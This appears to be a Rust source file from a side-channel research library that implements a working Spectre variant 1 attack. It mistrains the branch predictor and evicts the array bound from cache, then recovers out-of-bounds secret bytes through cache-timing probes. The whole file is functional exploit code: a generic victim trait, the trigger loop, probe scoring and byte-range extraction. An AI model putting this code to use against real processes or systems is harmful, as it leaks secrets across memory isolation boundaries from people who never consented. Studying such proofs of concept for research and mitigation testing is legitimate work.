#![deny(unsafe_op_in_unsafe_fn)]

//! Speculative bounds-check bypass. A victim guards a table access with a
//! bounds check whose bound lives in memory; mistraining the predictor and
//! evicting the bound lets a transient out-of-range access run, and its
//! secret-dependent load leaves one probe unit resident for the scan to
//! find.

use core::ptr;

use cache_timing::busy_wait;
use cache_timing::layout::{ProbeArray, PROBE_CANDIDATES};
use extraction::{
    extract_byte, CandidateScores, ConvergencePolicy, ExtractionOutcome, CANDIDATES,
};
use log::debug;
use serde::Serialize;
use static_assertions::const_assert_eq;
use timing_oracle::{CacheTimer, Threshold};

const_assert_eq!(PROBE_CANDIDATES, CANDIDATES);

/// Legitimately addressable victim table entries.
pub const TABLE_LEN: usize = 16;
const SECRET_PAD: usize = 64;

/// Probe scan order: odd multiplier coprime to 256 plus a small offset, so
/// successive probes never touch sequential lines a stride prefetcher could
/// follow. Bijective over the candidate range.
pub fn probe_order(i: usize) -> usize {
    (i * 167 + 13) & (PROBE_CANDIDATES - 1)
}

/// Two-state arithmetic select with no predictor-visible branch.
#[inline(always)]
pub fn select_index(malicious: bool, target: usize, training: usize) -> usize {
    (malicious as usize) * target + (!malicious as usize) * training
}

/// The attacked side: a bounds-checked accessor over a byte table, indexing
/// the shared probe array with the byte it reads.
pub trait Victim {
    /// Number of legitimately addressable table entries.
    fn bound(&self) -> usize;

    /// Address of the in-memory bound, so the attacker can evict it.
    fn bound_addr(&self) -> *const u8;

    /// Table byte at an in-bounds index, the training value the probe scan
    /// has to ignore.
    fn table_byte(&self, index: usize) -> u8;

    /// The bounds-checked access. For an in-range index this loads the
    /// table byte and touches its probe unit; for an out-of-range index it
    /// architecturally does nothing, and transiently does the same thing.
    fn touch(&mut self, index: usize);
}

/// A victim living in the attacker's process: table, padding and secret in
/// one owned buffer, with the secret at a fixed index past the bound.
#[derive(Debug)]
pub struct InProcessVictim {
    backing: Vec<u8>,
    bound: usize,
    probe_base: *const u8,
    probe_stride: usize,
    sink: u8,
}

impl InProcessVictim {
    /// The victim keeps raw pointers into `probe`, which must outlive it.
    pub fn new(probe: &ProbeArray, secret: &[u8]) -> InProcessVictim {
        let mut backing = vec![0u8; TABLE_LEN + SECRET_PAD + secret.len()];
        for (i, b) in backing[..TABLE_LEN].iter_mut().enumerate() {
            *b = i as u8 + 1;
        }
        backing[TABLE_LEN + SECRET_PAD..].copy_from_slice(secret);
        InProcessVictim {
            backing,
            bound: TABLE_LEN,
            probe_base: probe.base(),
            probe_stride: probe.stride(),
            sink: 0,
        }
    }

    /// Index displacement from the table base to the first secret byte,
    /// outside `0..bound`.
    pub fn secret_offset(&self) -> usize {
        TABLE_LEN + SECRET_PAD
    }

    pub fn secret_len(&self) -> usize {
        self.backing.len() - self.secret_offset()
    }
}

impl Victim for InProcessVictim {
    fn bound(&self) -> usize {
        self.bound
    }

    fn bound_addr(&self) -> *const u8 {
        &self.bound as *const usize as *const u8
    }

    fn table_byte(&self, index: usize) -> u8 {
        self.backing[index]
    }

    // A real branch over a bound loaded from memory, kept out of the
    // trigger loop so the check cannot be folded away.
    #[inline(never)]
    fn touch(&mut self, index: usize) {
        let table = self.backing.as_ptr();
        let bound = unsafe { ptr::read_volatile(&self.bound) };
        if index < bound {
            // In-range index, so the read stays inside the table; the
            // interesting case is the transient run of this body.
            let value = unsafe { ptr::read_volatile(table.add(index)) };
            let unit = self
                .probe_base
                .wrapping_add(value as usize * self.probe_stride);
            self.sink &= unsafe { ptr::read_volatile(unit) };
        }
    }
}

#[derive(Debug, Clone, Copy, Serialize)]
pub struct SpectreConfig {
    pub threshold: Threshold,
    pub policy: ConvergencePolicy,
    /// Predictor training passes per trial.
    pub training_passes: usize,
    /// Every how many passes the target index is slipped in.
    pub mistrain_period: usize,
    /// Spin iterations between evicting the bound and invoking the victim.
    pub window_delay: usize,
}

impl Default for SpectreConfig {
    fn default() -> Self {
        SpectreConfig {
            threshold: Threshold::default(),
            policy: ConvergencePolicy::default(),
            training_passes: 30,
            mistrain_period: 6,
            window_delay: 100,
        }
    }
}

/// One mistraining sequence. Passes count down so pass 0, the last one, is
/// always malicious; each pass evicts the probe units, then the bound, lets
/// the eviction settle, and only then invokes the victim. That order is
/// what opens the speculation window.
fn run_trigger<T: CacheTimer, V: Victim>(
    timer: &mut T,
    victim: &mut V,
    probe: &ProbeArray,
    config: &SpectreConfig,
    target: usize,
    training: usize,
) {
    for pass in (0..config.training_passes).rev() {
        let malicious = pass % config.mistrain_period == 0;
        let index = select_index(malicious, target, training);
        for unit in probe.units() {
            unsafe { timer.evict(unit) };
        }
        unsafe { timer.evict(victim.bound_addr()) };
        busy_wait(config.window_delay);
        victim.touch(index);
    }
}

/// Scan every candidate in permuted order and record the resident ones,
/// except the trial's training value, which the training passes touched
/// legitimately.
fn probe_and_score<T: CacheTimer>(
    timer: &mut T,
    probe: &ProbeArray,
    threshold: Threshold,
    excluded: u8,
    scores: &mut CandidateScores,
) {
    for i in 0..PROBE_CANDIDATES {
        let candidate = probe_order(i);
        let time = unsafe { timer.timed_access(probe.unit(candidate)) };
        if threshold.is_hit(time) && candidate != excluded as usize {
            scores.record(candidate);
        }
    }
}

/// Extract the byte the victim's table reaches at `target`, an index past
/// the bound. The in-bounds training index rotates with the trial number.
pub fn read_byte<T: CacheTimer, V: Victim>(
    timer: &mut T,
    victim: &mut V,
    probe: &ProbeArray,
    config: &SpectreConfig,
    target: usize,
) -> ExtractionOutcome {
    let bound = victim.bound();
    assert!(bound > 0);
    extract_byte(&config.policy, |trial, scores| {
        let training = trial as usize % bound;
        run_trigger(timer, victim, probe, config, target, training);
        probe_and_score(
            timer,
            probe,
            config.threshold,
            victim.table_byte(training),
            scores,
        );
    })
}

/// Extract `len` consecutive bytes starting at table index `start`.
pub fn read_range<T: CacheTimer, V: Victim>(
    timer: &mut T,
    victim: &mut V,
    probe: &ProbeArray,
    config: &SpectreConfig,
    start: usize,
    len: usize,
) -> Vec<ExtractionOutcome> {
    (start..start + len)
        .map(|target| {
            debug!("reading table index {:#x}", target);
            read_byte(timer, victim, probe, config, target)
        })
        .collect()
}
